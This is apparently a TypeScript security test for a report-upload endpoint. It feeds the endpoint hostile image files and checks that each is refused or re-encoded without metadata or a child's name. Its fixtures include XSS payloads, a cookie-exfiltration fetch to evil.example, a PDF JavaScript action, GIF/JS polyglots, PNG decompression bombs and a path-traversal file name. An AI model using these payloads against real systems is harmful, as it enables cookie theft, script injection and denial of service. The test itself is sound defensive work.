// Hostile files: a corpus made here, each file exactly the attack it claims to be, sent as a
// screenshot over POST /api/reports. Each is refused (error shape, nothing stored) or stored
// re-encoded: no metadata, never the original bytes, and neither the file name nor the child's
// name written in the file ever reaches the database.

import { randomBytes } from 'node:crypto';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DATABASE_FILE } from '../../server/context.js';
import { findReportByReceiptHash } from '../../db/queries/reports.js';
import { normalizeReceiptCode } from '../../server/receipts/receipt-code.js';
import { listScreenshotsOfReport } from '../helpers/rows.js';
import { noise, pngChunk, pngDeclaring, solid } from '../helpers/images.js';
import { multipartBody } from '../helpers/multipart.js';
import { sqliteOf, startTestApp, type TestApp } from '../helpers/test-app.js';
import { expectErrorShape, rowCounts, scanFiles, scanText } from './support.js';

const CHILD = 'Fleur Bakkerink';
const RUN = randomBytes(4).toString('hex');

// ---- building blocks, by hand where sharp would refuse to make the attack ----

// A few bytes of a deflate stream of zeros: tiny on the wire, a huge canvas once decoded.
const ZEROS_IDAT = Buffer.from([0x78, 0x9c, 0x63, 0x60, 0x18, 0x05]);

/** PNG chunk types that carry text or metadata; none may survive. */
function pngChunkTypes(png: Buffer): string[] {
  const types: string[] = [];
  for (let at = 8; at + 8 <= png.length; ) {
    const length = png.readUInt32BE(at);
    types.push(png.toString('latin1', at + 4, at + 8));
    at += 12 + length;
  }
  return types;
}
/** JPEG marker segments before the image data: APP1 (EXIF, XMP), APP13 (IPTC), COM must be gone. */
function jpegMarkers(jpeg: Buffer): number[] {
  const markers: number[] = [];
  for (let at = 2; at + 4 <= jpeg.length && jpeg[at] === 0xff; ) {
    const marker = jpeg[at + 1]!;
    markers.push(marker);
    if (marker === 0xda) break;
    at += 2 + jpeg.readUInt16BE(at + 2);
  }
  return markers;
}

interface HostileFile {
  name: string;
  filename: string;
  contentType: string;
  data: Buffer;
  /** refuse: must be refused with this status; store: must be stored re-encoded; either: one of both. */
  expect: { refuse: number } | 'store' | 'either';
  /** Bytes that must not be in what is stored. */
  mustNotContain?: string[];
}

async function corpus(): Promise<HostileFile[]> {
  const xmp = `<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>${CHILD}</dc:creator></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`;
  const gps = { IFD0: { Artist: CHILD, Copyright: CHILD, ImageDescription: `${CHILD} op het schoolplein` }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 30/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '6/1 5/1 0/1' } };
  const jpeg = await solid(64, 48).jpeg().toBuffer();
  const png = await solid(40, 30).png().toBuffer();
  const bigPng = await noise(300, 200).png().toBuffer();
  const bigJpeg = await noise(300, 200).jpeg().toBuffer();
  const frames = await Promise.all(['#ff0000', '#00ff00', '#0000ff'].map((colour) => solid(24, 24, colour).png().toBuffer()));
  const textChunks = [
    pngChunk('tEXt', Buffer.from(`Author\0${CHILD}`, 'latin1')),
    pngChunk('tEXt', Buffer.from(`Comment\0<script>alert(1)</script> ${CHILD}`, 'latin1')),
    pngChunk('iTXt', Buffer.from(`Description\0\0\0\0\0${CHILD} huilt`, 'utf8')),
  ];
  const file = (name: string, ext: string) => `hostile-${name}-${RUN}.${ext}`;
  return [
    { name: 'SVG with a script', filename: file('svg', 'svg'), contentType: 'image/svg+xml', expect: { refuse: 415 },
      data: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><text>${CHILD}</text></svg>`) },
    { name: 'HTML named .png', filename: file('html', 'png'), contentType: 'image/png', expect: { refuse: 415 },
      data: Buffer.from(`<!doctype html><html><body><script>fetch('//evil.example/'+document.cookie)</script>${CHILD}</body></html>`) },
    { name: 'PDF', filename: file('pdf', 'pdf'), contentType: 'application/pdf', expect: { refuse: 415 },
      data: Buffer.from(`%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\n% ${CHILD}\ntrailer << /Root 1 0 R >>\n%%EOF\n`) },
    { name: 'JPEG with <script> appended', filename: file('jpeg-script', 'jpg'), contentType: 'image/jpeg', expect: 'store', mustNotContain: ['<script', CHILD],
      data: Buffer.concat([jpeg, Buffer.from(`<script>alert(1)</script>${CHILD}`)]) },
    { name: 'GIF/JS polyglot', filename: file('polyglot', 'gif'), contentType: 'image/gif', expect: 'either', mustNotContain: ['alert(1)'],
      data: Buffer.concat([Buffer.from('GIF89a/*'), Buffer.from([0x80, 0x00, 0x00, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00]), Buffer.from('*/=alert(1)//'), Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3b])]) },
    { name: 'GIF/JS polyglot, a valid GIF', filename: file('polyglot-valid', 'gif'), contentType: 'image/gif', expect: 'either', mustNotContain: ['alert(1)'],
      // Logical screen width '/*', the script closing the comment inside a GIF comment extension.
      data: Buffer.concat([
        Buffer.from('GIF89a/*'),
        Buffer.from([0x01, 0x00, 0x80, 0x00, 0x00, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00]),
        Buffer.from([0x21, 0xfe, 0x0d]), Buffer.from('*/=alert(1)//'), Buffer.from([0x00]),
        Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3b]),
      ]) },
    { name: 'truncated JPEG', filename: file('cut-jpeg', 'jpg'), contentType: 'image/jpeg', expect: { refuse: 415 }, data: bigJpeg.subarray(0, Math.floor(bigJpeg.length / 2)) },
    { name: 'truncated PNG', filename: file('cut-png', 'png'), contentType: 'image/png', expect: { refuse: 415 }, data: bigPng.subarray(0, Math.floor(bigPng.length / 2)) },
    { name: 'small PNG declaring 6000x6000', filename: file('bomb-6000', 'png'), contentType: 'image/png', expect: { refuse: 413 }, data: pngDeclaring(6000, 6000, ZEROS_IDAT) },
    { name: 'small PNG declaring 30000x30000', filename: file('bomb-30000', 'png'), contentType: 'image/png', expect: { refuse: 413 }, data: pngDeclaring(30_000, 30_000, ZEROS_IDAT) },
    { name: 'JPEG with GPS EXIF, author and XMP', filename: file('gps', 'jpg'), contentType: 'image/jpeg', expect: 'store', mustNotContain: [CHILD, 'Exif', 'adobe:ns:meta'],
      data: await solid(64, 48).jpeg().withExif(gps).withXmp(xmp).toBuffer() },
    { name: 'WebP with EXIF and XMP', filename: file('webp', 'webp'), contentType: 'image/webp', expect: 'store', mustNotContain: [CHILD, 'Exif', 'adobe:ns:meta'],
      data: await solid(40, 30).webp().withExif(gps).withXmp(xmp).toBuffer() },
    { name: 'PNG with tEXt and iTXt chunks', filename: file('text-chunks', 'png'), contentType: 'image/png', expect: 'store', mustNotContain: [CHILD, '<script'],
      data: Buffer.concat([png.subarray(0, 33), ...textChunks, png.subarray(33)]) },
    { name: 'animated GIF', filename: file('animated', 'gif'), contentType: 'image/gif', expect: 'store',
      data: await sharp(frames, { join: { animated: true } }).gif().toBuffer() },
    { name: 'zero-byte file', filename: file('empty', 'png'), contentType: 'image/png', expect: { refuse: 415 }, data: Buffer.alloc(0) },
    { name: "file name with ../ and a child's name", filename: `../../../etc/${CHILD} schoolfoto ${RUN}.png`, contentType: 'image/png', expect: 'store',
      // Not libvips' own encoding: re-encoding a PNG sharp made with its defaults gives the same bytes back.
      data: await solid(40, 30, '#cc6633').png({ compressionLevel: 0 }).toBuffer() },
  ];
}

let t: TestApp;
beforeAll(async () => {
  t = await startTestApp();
});
afterAll(async () => {
  await t?.close();
});

describe('hostile screenshots', () => {
  it('refuses each or stores it re-encoded, without metadata, file name or child name', { timeout: 60_000 }, async () => {
    const files = await corpus();
    const rows: string[] = [];
    let address = 0;
    for (const hostile of files) {
      const before = rowCounts(sqliteOf(t));
      const { payload, headers } = multipartBody(
        [
          ['role', 'parent'],
          ['description', 'Mijn kind krijgt nare berichten, zie het plaatje.'],
          ['kinds', 'cyber'],
        ],
        [{ field: 'screenshots', filename: hostile.filename, contentType: hostile.contentType, data: hostile.data }],
      );
      address += 1;
      const response = await t.app.inject({ method: 'POST', url: '/api/reports', payload, headers, remoteAddress: `10.77.0.${address}` });

      if (response.statusCode !== 201) {
        expectErrorShape(response.statusCode, response.body);
        expect(rowCounts(sqliteOf(t)), hostile.name).toEqual(before);
        expect(hostile.expect, `${hostile.name} was refused (${response.statusCode} ${response.body})`).not.toBe('store');
        if (typeof hostile.expect === 'object') expect(response.statusCode, hostile.name).toBe(hostile.expect.refuse);
        rows.push(`${hostile.name}: refused ${response.statusCode} ${response.json().error.code}`);
        continue;
      }
      expect(hostile.expect, `${hostile.name} was stored`).not.toHaveProperty('refuse');
      const hash = t.context.keyedHash(normalizeReceiptCode(response.json().receipt)!);
      const shots = await listScreenshotsOfReport(t.context.db, (await findReportByReceiptHash(t.context.db, hash))!.id);
      expect(shots, hostile.name).toHaveLength(1);
      const shot = shots[0]!;
      expect(shot.data.equals(hostile.data), `${hostile.name}: stored the original bytes`).toBe(false);
      expect(['image/png', 'image/jpeg', 'image/webp']).toContain(shot.mime_type);
      const meta = await sharp(shot.data).metadata();
      expect(meta.format).toBe(shot.mime_type.slice('image/'.length));
      expect([meta.width, meta.height]).toEqual([shot.width, shot.height]);
      expect(meta.exif, `${hostile.name}: EXIF survived`).toBeUndefined();
      expect(meta.xmp, `${hostile.name}: XMP survived`).toBeUndefined();
      expect(meta.iptc, `${hostile.name}: IPTC survived`).toBeUndefined();
      expect(meta.icc, `${hostile.name}: ICC profile survived`).toBeUndefined();
      expect(meta.comments ?? [], `${hostile.name}: comments survived`).toEqual([]);
      expect(meta.pages ?? 1, `${hostile.name}: more than one frame`).toBe(1);
      if (meta.format === 'png') {
        // pHYs (pixel density) is all libvips adds: no text, time, profile or EXIF chunk.
        expect(pngChunkTypes(shot.data).filter((type) => !['IHDR', 'PLTE', 'tRNS', 'pHYs', 'IDAT', 'IEND'].includes(type))).toEqual([]);
      }
      if (meta.format === 'jpeg') {
        expect(jpegMarkers(shot.data).filter((marker) => marker === 0xe1 || marker === 0xed || marker === 0xfe)).toEqual([]);
      }
      for (const needle of [...(hostile.mustNotContain ?? []), CHILD, hostile.filename]) {
        expect(shot.data.includes(needle), `${hostile.name}: stored bytes contain ${needle}`).toBe(false);
      }
      rows.push(`${hostile.name}: stored as ${shot.mime_type} ${shot.width}x${shot.height}, ${hostile.data.length} -> ${shot.data.length} bytes`);
    }
    console.log(`hostile files (${files.length}):\n  ${rows.join('\n  ')}`);

    // Nothing of the names made it anywhere: database, its WAL and shared memory, or the log.
    const markers = [CHILD, 'Bakkerink', ...files.map((file) => file.filename), ...files.map((file) => path.basename(file.filename))];
    const dbFiles = ['', '-wal', '-shm'].map((suffix) => path.join(t.dataDir, `${DATABASE_FILE}${suffix}`));
    const hits = [...(await scanFiles(dbFiles, markers)), ...scanText('log', t.logOutput(), markers)];
    console.log(`hostile files: scanned ${dbFiles.length} database files and the log for ${markers.length} names: ${hits.length} hits`);
    expect(hits).toEqual([]);

    // And the server is still well.
    const health = await t.app.inject('/healthz');
    expect(health.statusCode).toBe(200);
    expect(health.json().status).toBe('ok');
    const normal = await t.app.inject({
      method: 'POST',
      url: '/api/reports',
      remoteAddress: '10.77.1.1',
      payload: { role: 'self', description: 'Na al die rare plaatjes: een gewone melding.' },
    });
    expect(normal.statusCode).toBe(201);
  });
});
